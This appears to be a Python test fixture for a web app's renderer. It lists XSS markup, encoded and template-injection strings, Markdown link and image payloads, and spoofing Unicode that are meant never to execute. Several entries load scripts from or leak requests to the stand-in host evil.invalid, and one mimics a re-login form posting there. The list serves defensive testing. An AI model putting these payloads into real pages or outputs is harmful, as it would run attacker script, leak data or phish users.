"""What documents, models and their servers might say to do harm: each by itself, and shown as the text that it is.

`RAN` is what all of them try to set; none may.
"""

from __future__ import annotations

RAN = "window.__ran"
_RUN = f"{RAN}=1"
EVIL = "https://evil.invalid"

MARKUP = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={EVIL}/x.js></sCrIpT>",
    f"<script type=module>import('{EVIL}/x.js')</script>",
    f'"><img src=x onerror={_RUN}>',
    f"<img src={EVIL}/leak.png srcset='{EVIL}/leak2.png 2x'>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    f"' onmouseover='{_RUN}",
    f'" autofocus onfocus="{_RUN}" tabindex=1 x="',
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN}>",
    f"<video src={EVIL}/v.mp4 onerror={_RUN} autoplay>",
    f"<audio src={EVIL}/a.mp3 autoplay>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'>",
    f"<iframe src={EVIL}>",
    f"<object data={EVIL}/x.swf><embed src={EVIL}/y.swf>",
    f"<form action={EVIL}><input name=q autofocus><button>Log in again</button></form>",
    "</mark></div></article><form action=//evil.invalid id=composer>",
    f"<button formaction=javascript:{_RUN}>press</button>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>*{{display:none!important;background:url({EVIL}/leak)}}</style>",
    f"<div style='position:fixed;inset:0;background:url({EVIL}/leak);z-index:99999'>cover</div>",
    f"<p style=background-image:url({EVIL}/leak)>",
    f"<table background={EVIL}/leak><tr><td>",
    f"<a href={EVIL}>sanad.example</a>",
    f"<a href='javascript:{_RUN}'>source</a>",
    f'<a href="data:text/html,<script>{_RUN}</script>">source</a>',
    f"<a href={EVIL} download target=_blank ping={EVIL}/ping>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<textarea></textarea><img src=x onerror={_RUN}>",
    f"<title><img src=x onerror={_RUN}></title>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_RUN}</x:script>",
    f"<img src=x:x onerror\n=\n{_RUN}>",
    f"<<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}//",
    "<dialog open class=sheet id=library>a false sheet</dialog>",
    "<div id=composer>a false box</div><div id=header>",
    '<button class="chip" aria-controls="t1-1">9</button>',
    "<bdi></bdi></span></span></p></section></article></main>",
]

ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"&#x3c;svg onload={_RUN}&#x3e;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
]

TEMPLATES = [
    f"${{{_RUN}}}",
    f"{{{{ {_RUN} }}}}",
    f"`${{{_RUN}}}`",
    f"#{{{_RUN}}} <%= {_RUN} %> {{% {_RUN} %}}",
    f"{{@html '<img src=x onerror={_RUN}>'}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "{question} {model} {n} {0} %s %(x)s",
    "__SANAD_PAGE__ __proto__ constructor",
]

MARKDOWN = [
    f"![a picture]({EVIL}/leak.png)",
    f"[Sanad]({EVIL}) <{EVIL}> {EVIL}",
    f"[click](javascript:{_RUN})",
    f"[x][y]\n\n[y]: javascript:{_RUN}",
    f"[https://sanad.example]({EVIL} 'sanad.example')",
    f"<javascript:{_RUN}>",
    "[1](#t1-1) [999] [-1] [1][1][1] 【1†source】",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "> " * 200 + "deep",
    "$$\\href{javascript:alert(1)}{x}$$ $\\unicode{x3c}$",
]

CHARACTERS = [
    "ثمنها \u202e18\u202c دينارا",
    "invoice\u202egnp.exe",
    "\u2067\u2067\u2067 never closed",
    "\u202b\u202b\u202b لا تُغلق",
    "\u2069\u2069\u202c\u202c closes what it did not open",
    "\u200f\u200e\u061c marks \u200f(81)\u200e",
    "zero\u200bwidth\u200c\u200d\ufeff\u2060 letters",
    "nothing\x00here\x01\x07\x1b[31mred\x7f",
    "half \ud83d a character",
    "Z\u0351\u0363\u0365\u0301a" + "\u0300\u0316\u0488" * 60 + "lgo",
    "س" + "\u064b\u0651\u0670" * 60 + "ند",
    "W" * 2000,
    "ﷺ" * 200,
    "كلمة" * 500,
    '"' * 10_000,
    "«" * 500 + "»" * 500,
    "\u2028line\u2029paragraph\x85next\x0b\x0c",
    "\U000e0041\U000e0042 tags that are not seen",
    "🏴‍☠️" * 200,
    "a\n" * 500,
    "\t" * 300 + "far",
]

PAYLOADS = [*MARKUP, *ENTITIES, *TEMPLATES, *MARKDOWN, *CHARACTERS]
